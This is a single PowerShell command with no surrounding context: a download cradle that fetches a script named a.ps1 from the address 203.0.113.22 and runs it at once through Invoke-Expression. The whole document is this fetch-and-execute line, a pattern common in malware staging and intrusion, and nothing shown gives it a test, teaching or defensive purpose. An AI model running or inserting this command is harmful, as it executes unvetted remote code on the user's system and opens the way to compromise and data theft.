iex (New-Object Net.WebClient).DownloadString('http://203.0.113.22/a.ps1')
